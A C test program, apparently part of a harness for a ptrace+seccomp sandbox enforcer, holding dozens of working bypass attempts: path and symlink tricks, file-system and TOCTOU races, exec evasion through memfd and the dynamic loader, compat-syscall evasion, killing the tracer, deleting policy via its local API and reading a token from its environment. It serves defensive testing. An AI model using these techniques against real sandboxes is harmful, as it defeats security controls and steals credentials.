// attacks: real attack programs against a ptrace+seccomp enforcer.
//
// usage: attacks NAME ROOT
//   ROOT/secret/token   a file a Block policy protects (directory rule, recursive)
//   ROOT/bin/blocked    a binary a Block process rule protects (prints BLOCKED-BINARY-RAN)
//   ROOT/allowed.txt    an ordinary readable file
//   ROOT/work/          a scratch directory the attack may write
// UDP sockets are blocked by a network rule.
//
// Exit codes: 0 = the attack SUCCEEDED (a bypass; it prints "BYPASS: ..."),
// 1 = the attack was stopped (it prints "stopped: ..."), 2 = set-up problem.
// Being killed by a signal also means stopped. The harness also checks that the
// secret's content never appears on stdout.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <linux/filter.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <unistd.h>

static const char *R;
static char P_SECRET[4096], P_SECRETDIR[4096], P_BLOCKED[4096], P_ALLOWED[4096], P_WORK[4096];

static int stopped(const char *what) {
	printf("stopped: %s: %s\n", what, strerror(errno));
	return 1;
}

// leak reads an fd that should never have been opened and reports the bypass.
static int leak(int fd, const char *how) {
	char buf[256] = {0};
	ssize_t n = read(fd, buf, sizeof buf - 1);
	printf("BYPASS: %s: read %zd bytes: %s\n", how, n, buf);
	return 0;
}

static int try_open(const char *path, const char *how) {
	int fd = open(path, O_RDONLY);
	if (fd < 0) return stopped(how);
	return leak(fd, how);
}

// ---- path tricks ----------------------------------------------------------

static int a_path_direct(void) { return try_open(P_SECRET, "open the secret by its path"); }

static int a_path_relative(void) {
	if (chdir(P_SECRETDIR) != 0) return stopped("chdir into the secret dir");
	return try_open("token", "relative path from cwd");
}

static int a_path_dirfd(void) {
	int d = open(R, O_RDONLY | O_DIRECTORY);
	if (d < 0) { perror("open root"); return 2; }
	int fd = openat(d, "secret/token", O_RDONLY);
	if (fd < 0) return stopped("openat(dirfd, secret/token)");
	return leak(fd, "openat with a dirfd");
}

static int a_path_dotdot(void) {
	char p[8192];
	snprintf(p, sizeof p, "%s/work/../secret/./token", R);
	return try_open(p, "path with .. and .");
}

static int a_path_symlink(void) {
	char l[8192];
	snprintf(l, sizeof l, "%s/link", P_WORK);
	unlink(l);
	if (symlink(P_SECRET, l) != 0) return stopped("symlink to the secret");
	return try_open(l, "open through a symlink");
}

// chroot renames: after chroot(ROOT) the secret is "/secret/token" to the
// process, a name no rule on ROOT/secret/ matches (CAP_SYS_CHROOT is one of
// Fargate's default capabilities).
static int a_path_chroot(void) {
	if (chroot(R) != 0) return stopped("chroot into ROOT");
	return try_open("/secret/token", "chroot(ROOT), then open /secret/token: the secret under another name");
}

static int a_path_dirsymlink(void) {
	char l[8192], p[8192];
	snprintf(l, sizeof l, "%s/dirlink", P_WORK);
	unlink(l);
	if (symlink(P_SECRETDIR, l) != 0) return stopped("symlink to the secret dir");
	snprintf(p, sizeof p, "%s/token", l);
	return try_open(p, "open through a directory symlink");
}

static int a_path_proc_root(void) {
	char p[8192];
	snprintf(p, sizeof p, "/proc/self/root%s", P_SECRET);
	return try_open(p, "/proc/self/root/...");
}

static int a_path_proc_cwd(void) {
	if (chdir(P_SECRETDIR) != 0) return stopped("chdir into the secret dir");
	return try_open("/proc/self/cwd/token", "/proc/self/cwd/token");
}

static int a_path_opath_reopen(void) {
	int fd = open(P_SECRET, O_PATH);
	if (fd < 0) return stopped("O_PATH open of the secret");
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	return try_open(p, "O_PATH then reopen through /proc/self/fd");
}

static int a_path_openat2_inroot(void) {
	int d = open(R, O_RDONLY | O_DIRECTORY);
	if (d < 0) { perror("open root"); return 2; }
	struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT};
	int fd = syscall(SYS_openat2, d, "/secret/token", &how, sizeof how);
	if (fd < 0) return stopped("openat2 RESOLVE_IN_ROOT");
	return leak(fd, "openat2 RESOLVE_IN_ROOT with an absolute path");
}

static int a_path_openat2_beneath(void) {
	int d = open(R, O_RDONLY | O_DIRECTORY);
	if (d < 0) { perror("open root"); return 2; }
	struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_BENEATH | RESOLVE_NO_MAGICLINKS};
	int fd = syscall(SYS_openat2, d, "secret/token", &how, sizeof how);
	if (fd < 0) return stopped("openat2 RESOLVE_BENEATH");
	return leak(fd, "openat2 RESOLVE_BENEATH");
}

static int a_path_hardlink_new(void) {
	char l[8192];
	snprintf(l, sizeof l, "%s/hard", P_WORK);
	unlink(l);
	if (link(P_SECRET, l) != 0) return stopped("link() a new name to the secret");
	return try_open(l, "open a hard link made at run time");
}

// ROOT/work/prehard is a hard link to the secret made before bluelock started.
static int a_path_hardlink_pre(void) {
	char l[8192];
	snprintf(l, sizeof l, "%s/prehard", P_WORK);
	return try_open(l, "open a hard link that existed before start");
}

static int a_rename_out(void) {
	char n[8192];
	snprintf(n, sizeof n, "%s/stolen", P_WORK);
	if (rename(P_SECRET, n) != 0) return stopped("rename the secret out of its directory");
	return try_open(n, "rename the secret to a new name");
}

static int a_rename_over(void) {
	char n[8192];
	snprintf(n, sizeof n, "%s/evil", P_WORK);
	int fd = open(n, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0) { perror("create"); return 2; }
	write(fd, "evil\n", 5);
	close(fd);
	if (rename(n, P_SECRET) != 0) return stopped("rename a new file over the secret");
	printf("BYPASS: replaced the secret with our own file\n");
	return 0;
}

static int a_unlink_secret(void) {
	if (unlink(P_SECRET) != 0) return stopped("unlink the secret");
	printf("BYPASS: unlinked the secret\n");
	return 0;
}

static int a_bind_mount(void) {
	char m[8192], p[8192];
	snprintf(m, sizeof m, "%s/mnt", P_WORK);
	mkdir(m, 0755);
	if (mount(P_SECRETDIR, m, NULL, MS_BIND, NULL) != 0) return stopped("bind mount the secret dir");
	snprintf(p, sizeof p, "%s/token", m);
	int r = try_open(p, "open through a bind mount");
	umount2(m, MNT_DETACH);
	return r;
}

static int a_userns_bind_mount(void) {
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return stopped("unshare(CLONE_NEWUSER|CLONE_NEWNS)");
	return a_bind_mount();
}

// A second thread swaps a symlink between an allowed file and the secret while
// the main thread opens it: a file-system race on the check.
static volatile int stop_flag;
static char swap_link[8192], swap_tmp[8192];
static void *swapper(void *arg) {
	(void)arg;
	while (!stop_flag) {
		unlink(swap_tmp);
		symlink(P_SECRET, swap_tmp);
		rename(swap_tmp, swap_link);
		unlink(swap_tmp);
		symlink(P_ALLOWED, swap_tmp);
		rename(swap_tmp, swap_link);
	}
	return NULL;
}

static int read_is_secret(int fd) {
	char buf[64] = {0};
	read(fd, buf, sizeof buf - 1);
	return strncmp(buf, "allowed", 7) != 0;
}

// race_opens opens path 5000 times while swap runs in a second thread and
// reports how often it read the secret: "symlink swap<kind>: N tries, ..."
// (the harness reads that line) and a BYPASS line on any win.
static int race_opens(const char *path, void *(*swap)(void *), const char *kind, const char *what) {
	pthread_t t;
	pthread_create(&t, NULL, swap, NULL);
	int wins = 0, opened = 0, tries = 5000;
	for (int i = 0; i < tries; i++) {
		int fd = open(path, O_RDONLY);
		if (fd < 0) continue;
		opened++;
		if (read_is_secret(fd)) wins++;
		close(fd);
	}
	stop_flag = 1;
	pthread_join(t, NULL);
	printf("symlink swap%s: %d tries, %d opened, %d got the secret\n", kind, tries, opened, wins);
	if (wins) { printf("BYPASS: %s won %d times\n", what, wins); return 0; }
	errno = EACCES;
	return stopped(what);
}

static int a_race_symlink_swap(void) {
	snprintf(swap_link, sizeof swap_link, "%s/swap", P_WORK);
	snprintf(swap_tmp, sizeof swap_tmp, "%s/swap.tmp", P_WORK);
	symlink(P_ALLOWED, swap_link);
	return race_opens(swap_link, swapper, "", "symlink swap race");
}

// A second thread exchanges a real directory (holding an ordinary "token")
// with a symlink to the secret's directory while the main thread opens
// DIR/token: the swap is in the middle of the path, not at its end.
static char dswap[8192], dswap_other[8192];
static void *dir_swapper(void *arg) {
	(void)arg;
	while (!stop_flag)
		syscall(SYS_renameat2, AT_FDCWD, dswap, AT_FDCWD, dswap_other, 2 /* RENAME_EXCHANGE */);
	return NULL;
}

static int dswap_setup(char *decoy, size_t n);

static int a_race_dir_swap(void) {
	char decoy[8192 + 16];
	if (dswap_setup(decoy, sizeof decoy) != 0) return 2;
	return race_opens(decoy, dir_swapper, " (directory)", "directory swap race");
}

// The directory swap of race-dir-swap against link(2): it has no RESOLVE_*
// flags, so the kernel still follows a symlink swapped in mid-path, and the
// secret gets a second, unprotected name that an ordinary open then reads
// (rules match names). rename(2) is the same race; it is not run here
// because a won rename moves the decoy away and later tries measure nothing.
static int dswap_setup(char *decoy, size_t n) {
	snprintf(dswap, sizeof dswap, "%s/dswap", P_WORK);
	snprintf(dswap_other, sizeof dswap_other, "%s/dswap.other", P_WORK);
	if (mkdir(dswap, 0755) != 0) { perror("mkdir dswap"); return -1; }
	snprintf(decoy, n, "%s/token", dswap);
	int d = open(decoy, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (d < 0 || write(d, "allowed decoy\n", 14) != 14) { perror("decoy"); return -1; }
	close(d);
	if (symlink(P_SECRETDIR, dswap_other) != 0) { perror("symlink dswap.other"); return -1; }
	return 0;
}

static int a_race_link_swap(void) {
	char decoy[8192 + 16], stolen[8192 + 16];
	if (dswap_setup(decoy, sizeof decoy) != 0) return 2;
	snprintf(stolen, sizeof stolen, "%s/stolen", P_WORK);
	pthread_t t;
	pthread_create(&t, NULL, dir_swapper, NULL);
	int wins = 0, done = 0, tries = 5000;
	for (int i = 0; i < tries && !wins; i++) {
		unlink(stolen);
		if (link(decoy, stolen) != 0) continue;
		done++;
		int fd = open(stolen, O_RDONLY);
		if (fd >= 0) {
			if (read_is_secret(fd)) wins++;
			close(fd);
		}
	}
	stop_flag = 1;
	pthread_join(t, NULL);
	printf("symlink swap (link): %d tries, %d opened, %d got the secret\n", tries, done, wins);
	if (wins) { printf("BYPASS: link of a swapped directory gave the secret another name\n"); return 0; }
	errno = EACCES;
	return stopped("link swap race");
}

// A second thread swaps a symlink between a loop (it points at itself) and
// the secret: a walk that meets the loop has only a lexical name to show,
// which names no protected file.
static char loop_link[8192], loop_tmp[8192];
static void *loop_swapper(void *arg) {
	(void)arg;
	while (!stop_flag) {
		unlink(loop_tmp);
		symlink("lswap", loop_tmp);
		rename(loop_tmp, loop_link);
		unlink(loop_tmp);
		symlink(P_SECRET, loop_tmp);
		rename(loop_tmp, loop_link);
	}
	return NULL;
}

static int a_race_loop_swap(void) {
	snprintf(loop_link, sizeof loop_link, "%s/lswap", P_WORK);
	snprintf(loop_tmp, sizeof loop_tmp, "%s/lswap.tmp", P_WORK);
	symlink("lswap", loop_link);
	return race_opens(loop_link, loop_swapper, " (loop)", "loop swap race");
}

// A second thread rewrites the path buffer between the tracer's check and the
// kernel's use.
static char flip_buf[4096];
static void *flipper(void *arg) {
	(void)arg;
	size_t n = strlen(P_SECRET) + 1;
	char a[4096], s[4096];
	memset(a, 0, sizeof a);
	memset(s, 0, sizeof s);
	memcpy(s, P_SECRET, n);
	memcpy(a, P_ALLOWED, strlen(P_ALLOWED) + 1);
	size_t m = n > strlen(P_ALLOWED) + 1 ? n : strlen(P_ALLOWED) + 1;
	while (!stop_flag) {
		memcpy(flip_buf, s, m);
		memcpy(flip_buf, a, m);
	}
	return NULL;
}

static int a_race_toctou(void) {
	int tries = getenv("RACE_TRIES") ? atoi(getenv("RACE_TRIES")) : 20000;
	strcpy(flip_buf, P_ALLOWED);
	pthread_t t;
	pthread_create(&t, NULL, flipper, NULL);
	int wins = 0, opened = 0;
	for (int i = 0; i < tries; i++) {
		int fd = syscall(SYS_openat, AT_FDCWD, flip_buf, O_RDONLY);
		if (fd < 0) continue;
		opened++;
		if (read_is_secret(fd)) wins++;
		close(fd);
	}
	stop_flag = 1;
	pthread_join(t, NULL);
	printf("toctou: %d tries, %d opened, %d got the secret\n", tries, opened, wins);
	if (wins) { printf("BYPASS: path-buffer race won %d of %d\n", wins, tries); return 0; }
	errno = EACCES;
	return stopped("path-buffer race");
}

// ---- exec tricks ----------------------------------------------------------

static int ran(int status, const char *how) {
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
		printf("BYPASS: %s: the blocked binary ran\n", how);
		return 0;
	}
	if (WIFSIGNALED(status)) printf("stopped: %s: killed by signal %d\n", how, WTERMSIG(status));
	else printf("stopped: %s: exit %d\n", how, WEXITSTATUS(status));
	return 1;
}

static int spawn(char *const argv[], const char *how) {
	pid_t p = fork();
	if (p == 0) {
		execv(argv[0], argv);
		printf("exec %s: %s\n", argv[0], strerror(errno));
		_exit(126);
	}
	int st;
	waitpid(p, &st, 0);
	return ran(st, how);
}

static int a_exec_direct(void) {
	char *argv[] = {P_BLOCKED, NULL};
	return spawn(argv, "exec the blocked binary");
}

static int a_exec_ldso(void) {
	const char *ld = "/lib64/ld-linux-x86-64.so.2";
	if (access(ld, X_OK) != 0) { printf("no %s\n", ld); return 2; }
	char *argv[] = {(char *)ld, P_BLOCKED, NULL};
	return spawn(argv, "run the blocked binary through the dynamic loader");
}

static int a_exec_shebang(void) {
	char s[8192];
	snprintf(s, sizeof s, "%s/script", P_WORK);
	FILE *f = fopen(s, "w");
	if (!f) { perror("script"); return 2; }
	fprintf(f, "#!%s\n", P_BLOCKED);
	fclose(f);
	chmod(s, 0755);
	char *argv[] = {s, NULL};
	return spawn(argv, "a script whose interpreter is the blocked binary");
}

static int copy_file(const char *from, int to) {
	int in = open(from, O_RDONLY);
	if (in < 0) return -1;
	char buf[65536];
	ssize_t n;
	while ((n = read(in, buf, sizeof buf)) > 0) write(to, buf, n);
	close(in);
	return 0;
}

static int a_exec_copy(void) {
	char c[8192];
	snprintf(c, sizeof c, "%s/copy", P_WORK);
	int fd = open(c, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0 || copy_file(P_BLOCKED, fd) != 0) return stopped("copy the blocked binary");
	close(fd);
	char *argv[] = {c, NULL};
	return spawn(argv, "a copy of the blocked binary under another name");
}

static int a_exec_memfd(void) {
	int fd = memfd_create("x", MFD_CLOEXEC);
	if (fd < 0) return stopped("memfd_create");
	if (copy_file(P_BLOCKED, fd) != 0) return stopped("copy the blocked binary into a memfd");
	pid_t p = fork();
	if (p == 0) {
		char *argv[] = {"x", NULL};
		char *envp[] = {NULL};
		syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
		printf("execveat memfd: %s\n", strerror(errno));
		_exit(126);
	}
	int st;
	waitpid(p, &st, 0);
	return ran(st, "memfd_create + execveat(AT_EMPTY_PATH)");
}

static void *exec_thread(void *arg) {
	(void)arg;
	char *argv[] = {P_BLOCKED, NULL};
	execv(P_BLOCKED, argv);
	printf("stopped: exec from a thread: %s\n", strerror(errno));
	fflush(stdout);
	_exit(1);
	return NULL;
}

static int a_exec_thread(void) {
	pthread_t t;
	pthread_create(&t, NULL, exec_thread, NULL);
	pthread_join(t, NULL);
	return 2;
}

// ---- syscall-level tricks ---------------------------------------------------

static int a_sys_int80(void) {
	// i386 open(path, O_RDONLY) through int 0x80: the path must be below 4 GiB.
	char *low = mmap((void *)0x10000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (low == MAP_FAILED) { perror("mmap low"); return 2; }
	strcpy(low, P_SECRET);
	long ret;
	// The compat entry zeroes r8-r11 when it returns to 64-bit code: declare them clobbered.
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(5L), "b"(low), "c"(0L), "d"(0L) : "memory", "cc", "r8", "r9", "r10", "r11");
	if (ret < 0) { errno = -ret; return stopped("i386 open via int 0x80"); }
	return leak((int)ret, "i386 open via int 0x80");
}

static int a_sys_x32(void) {
	long ret = syscall(0x40000000 | SYS_open, P_SECRET, O_RDONLY);
	if (ret < 0) return stopped("x32 open");
	return leak((int)ret, "x32 open");
}

static int a_sys_io_uring(void) {
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	int fd = syscall(SYS_io_uring_setup, 4, &p);
	if (fd < 0) return stopped("io_uring_setup");
	printf("BYPASS: io_uring_setup succeeded (IORING_OP_OPENAT would not be traced)\n");
	return 0;
}

static int a_sys_open_by_handle(void) {
	struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
	h->handle_bytes = MAX_HANDLE_SZ;
	int mnt;
	if (syscall(SYS_name_to_handle_at, AT_FDCWD, P_ALLOWED, h, &mnt, 0) != 0) return stopped("name_to_handle_at");
	printf("BYPASS: name_to_handle_at succeeded\n");
	return 0;
}

static int a_sys_process_vm_writev(void) {
	char src[8] = "x", dst[8] = "y";
	struct iovec l = {src, 1}, r = {dst, 1};
	if (syscall(SYS_process_vm_writev, getpid(), &l, 1, &r, 1, 0) < 0) return stopped("process_vm_writev");
	printf("BYPASS: process_vm_writev worked\n");
	return 0;
}

static int a_sys_ptrace(void) {
	pid_t c = fork();
	if (c == 0) { pause(); _exit(0); }
	long r = ptrace(PTRACE_SEIZE, c, 0, 0);
	int e = errno;
	kill(c, SIGKILL);
	waitpid(c, NULL, 0);
	errno = e;
	if (r != 0) return stopped("ptrace(PTRACE_SEIZE) of our own child");
	printf("BYPASS: the app can ptrace\n");
	return 0;
}

static int a_sys_clone_untraced(void) {
	long r = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
	if (r == 0) {
		// the child: if it exists untraced, it opens the secret with nobody watching
		int fd = open(P_SECRET, O_RDONLY);
		if (fd >= 0) { leak(fd, "clone(CLONE_UNTRACED) child"); _exit(0); }
		_exit(1);
	}
	if (r < 0) return stopped("clone(CLONE_UNTRACED)");
	int st;
	waitpid(r, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return 0;
	printf("stopped: the untraced child could not open the secret\n");
	return 1;
}

static int a_sys_new_listener(void) {
	struct sock_filter f[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
	struct sock_fprog prog = {1, f};
	long r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	if (r < 0) return stopped("seccomp(SECCOMP_FILTER_FLAG_NEW_LISTENER)");
	printf("BYPASS: installed a filter with a user-notification listener\n");
	return 0;
}

static int a_sys_nondumpable(void) {
	prctl(PR_SET_DUMPABLE, 0);
	return try_open(P_SECRET, "open the secret after PR_SET_DUMPABLE 0");
}

// ---- network ----------------------------------------------------------------

static int try_socket(int dom, int type, int proto, const char *how) {
	int s = socket(dom, type, proto);
	if (s < 0) return stopped(how);
	printf("BYPASS: %s: got socket %d\n", how, s);
	return 0;
}
static int a_net_udp(void) { return try_socket(AF_INET, SOCK_DGRAM, 0, "udp socket"); }
static int a_net_udp_proto(void) { return try_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP, "udp socket, explicit IPPROTO_UDP"); }
static int a_net_udp6(void) { return try_socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0, "udp6 socket with flags"); }

// ---- the tracer itself ------------------------------------------------------

static int a_tracer_kill(void) {
	pid_t t = getppid();
	kill(t, SIGKILL);
	// With PTRACE_O_EXITKILL we die with the tracer; if we are still here the
	// kernel would let us run untraced (or fail every trapped call with ENOSYS).
	for (int i = 0; i < 1000; i++) {
		int fd = open(P_SECRET, O_RDONLY);
		if (fd >= 0) return leak(fd, "after killing the tracer");
	}
	return stopped("open after killing the tracer");
}

static int a_tracer_stop(void) {
	pid_t t = getppid();
	alarm(3); // if the tracer is stopped our next trapped call hangs: fail closed
	kill(t, SIGSTOP);
	int fd = open(P_SECRET, O_RDONLY);
	kill(t, SIGCONT);
	if (fd >= 0) return leak(fd, "while the tracer is stopped");
	return stopped("open while the tracer is stopped");
}

static int a_fork_storm(void) {
	int n = 0;
	for (int i = 0; i < 500; i++) {
		pid_t p = fork();
		if (p == 0) { _exit(0); }
		if (p > 0) n++;
	}
	while (wait(NULL) > 0) {}
	printf("forked %d children\n", n);
	return try_open(P_SECRET, "open the secret after a fork storm");
}

static int a_event_flood(void) {
	for (int i = 0; i < 20000; i++) {
		int fd = open(P_ALLOWED, O_RDONLY);
		if (fd >= 0) close(fd);
	}
	return try_open(P_SECRET, "open the secret after an event flood");
}

// The app shares the pod's network with the tracer: ask the tracer's own
// policy HTTP API (127.0.0.1:2802) to delete the policy, then read the secret.
static int a_policy_api_lift(void) {
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0) return stopped("socket");
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(2802), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return stopped("connect to the tracer's policy API");
	const char *req = "DELETE /policies/bypass-block HTTP/1.0\r\nHost: x\r\n\r\n";
	write(s, req, strlen(req));
	char buf[512] = {0};
	read(s, buf, sizeof buf - 1);
	close(s);
	printf("policy API answered: %.60s\n", buf);
	return try_open(P_SECRET, "open the secret after deleting its policy through the local API");
}

// The tracer's environment may hold tokens (BLUELOCK_POLICY_TOKEN): look for
// one in /proc/<tracer>/environ.
static int a_tracer_environ(void) {
	char p[64];
	snprintf(p, sizeof p, "/proc/%d/environ", getppid());
	int fd = open(p, O_RDONLY);
	if (fd < 0) return stopped("open the tracer's /proc/PID/environ");
	static char buf[1 << 16];
	ssize_t n = read(fd, buf, sizeof buf - 1);
	if (n <= 0) return stopped("read the tracer's environ");
	for (ssize_t i = 0; i < n; i += strlen(buf + i) + 1) {
		if (strncmp(buf + i, "BLUELOCK_POLICY_TOKEN=", 22) == 0 && buf[i + 22] != 'x') {
			printf("BYPASS: token in the tracer's environment: %s\n", buf + i + 22);
			return 0;
		}
	}
	errno = EACCES;
	return stopped("no usable token in the tracer's environment");
}

struct attack { const char *name; int (*fn)(void); };
static const struct attack attacks[] = {
	{"path-direct", a_path_direct},
	{"path-relative", a_path_relative},
	{"path-dirfd", a_path_dirfd},
	{"path-dotdot", a_path_dotdot},
	{"path-symlink", a_path_symlink},
	{"path-dir-symlink", a_path_dirsymlink},
	{"path-chroot", a_path_chroot},
	{"path-proc-root", a_path_proc_root},
	{"path-proc-cwd", a_path_proc_cwd},
	{"path-opath-reopen", a_path_opath_reopen},
	{"path-openat2-inroot", a_path_openat2_inroot},
	{"path-openat2-beneath", a_path_openat2_beneath},
	{"path-hardlink-new", a_path_hardlink_new},
	{"path-hardlink-pre", a_path_hardlink_pre},
	{"rename-out", a_rename_out},
	{"rename-over", a_rename_over},
	{"unlink-secret", a_unlink_secret},
	{"bind-mount", a_bind_mount},
	{"userns-bind-mount", a_userns_bind_mount},
	{"race-symlink-swap", a_race_symlink_swap},
	{"race-dir-swap", a_race_dir_swap},
	{"race-loop-swap", a_race_loop_swap},
	{"race-link-swap", a_race_link_swap},
	{"race-toctou", a_race_toctou},
	{"exec-direct", a_exec_direct},
	{"exec-ldso", a_exec_ldso},
	{"exec-shebang", a_exec_shebang},
	{"exec-copy", a_exec_copy},
	{"exec-memfd", a_exec_memfd},
	{"exec-thread", a_exec_thread},
	{"sys-int80", a_sys_int80},
	{"sys-x32", a_sys_x32},
	{"sys-io-uring", a_sys_io_uring},
	{"sys-open-by-handle", a_sys_open_by_handle},
	{"sys-process-vm-writev", a_sys_process_vm_writev},
	{"sys-ptrace", a_sys_ptrace},
	{"sys-clone-untraced", a_sys_clone_untraced},
	{"sys-new-listener", a_sys_new_listener},
	{"sys-nondumpable", a_sys_nondumpable},
	{"net-udp", a_net_udp},
	{"net-udp-proto", a_net_udp_proto},
	{"net-udp6", a_net_udp6},
	{"policy-api-lift", a_policy_api_lift},
	{"tracer-environ", a_tracer_environ},
	{"tracer-kill", a_tracer_kill},
	{"tracer-stop", a_tracer_stop},
	{"fork-storm", a_fork_storm},
	{"event-flood", a_event_flood},
};

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 2 && strcmp(argv[1], "list") == 0) {
		for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) printf("%s\n", attacks[i].name);
		return 0;
	}
	if (argc != 3) { fprintf(stderr, "usage: attacks NAME ROOT | attacks list\n"); return 2; }
	R = argv[2];
	snprintf(P_SECRETDIR, sizeof P_SECRETDIR, "%s/secret", R);
	snprintf(P_SECRET, sizeof P_SECRET, "%s/secret/token", R);
	snprintf(P_BLOCKED, sizeof P_BLOCKED, "%s/bin/blocked", R);
	snprintf(P_ALLOWED, sizeof P_ALLOWED, "%s/allowed.txt", R);
	snprintf(P_WORK, sizeof P_WORK, "%s/work", R);
	// The harness requires this line: an attack "stopped" because the tracer
	// never started the app would prove nothing.
	printf("attack %s: started\n", argv[1]);
	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
		if (strcmp(attacks[i].name, argv[1]) == 0) return attacks[i].fn();
	fprintf(stderr, "unknown attack %s\n", argv[1]);
	return 2;
}
